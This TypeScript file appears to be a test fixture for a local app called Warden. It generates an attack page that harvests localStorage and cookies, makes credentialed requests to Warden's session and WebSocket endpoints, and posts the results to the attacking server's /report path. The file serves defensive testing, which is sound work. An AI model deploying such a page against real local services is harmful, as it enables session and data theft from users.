/**
 * The page another local user's web server on 127.0.0.1 serves to a browser signed in to Warden:
 * it reads what its own origin holds, makes a same-site request to its own server (where a
 * cookie for 127.0.0.1 would arrive, whatever its port), tries Warden's sign-in, sign-out and
 * WebSocket directly, and posts what it found to `/report` on its own server.
 */

/** The attack page's HTML, aimed at the Warden at `wardenOrigin`. */
export function attackPage(wardenOrigin: string): string {
  const script = `
(async () => {
  const warden = ${JSON.stringify(wardenOrigin)};
  const out = { storage: { ...localStorage }, cookie: document.cookie, tries: {} };
  const attempt = async (name, run) => {
    try {
      out.tries[name] = await run();
    } catch (error) {
      out.tries[name] = error.name;
    }
  };
  await attempt('same-site fetch', async () =>
    (await fetch('/c', { credentials: 'include' })).status);
  await attempt('read /session', async () => {
    const reply = await fetch(warden + '/session', { credentials: 'include' });
    return reply.status + ' ' + (await reply.text());
  });
  await attempt('check a secret', async () =>
    (await fetch(warden + '/session', { headers: { 'X-Warden-Session': 'x'.repeat(43) } })).status);
  await attempt('trade a code', async () =>
    (await fetch(warden + '/session', {
      method: 'POST',
      body: JSON.stringify({ code: 'x'.repeat(43) }),
      credentials: 'include',
    })).status);
  // No secret to show, and a DELETE needs a preflight: another site cannot sign the user out.
  await attempt('sign out', async () =>
    (await fetch(warden + '/session', { method: 'DELETE', credentials: 'include' })).status);
  await attempt('opaque /session', async () =>
    (await fetch(warden + '/session', { mode: 'no-cors', credentials: 'include' })).type);
  await attempt('open /ws', () => new Promise((resolve) => {
    const ws = new WebSocket(warden.replace('http:', 'ws:') + '/ws', ['warden.v1']);
    ws.onopen = () => resolve('open');
    ws.onclose = () => resolve('closed');
  }));
  await fetch('/report', { method: 'POST', body: JSON.stringify(out) });
})();`;
  return `<!doctype html><title>elsewhere</title><script>${script}</script>`;
}
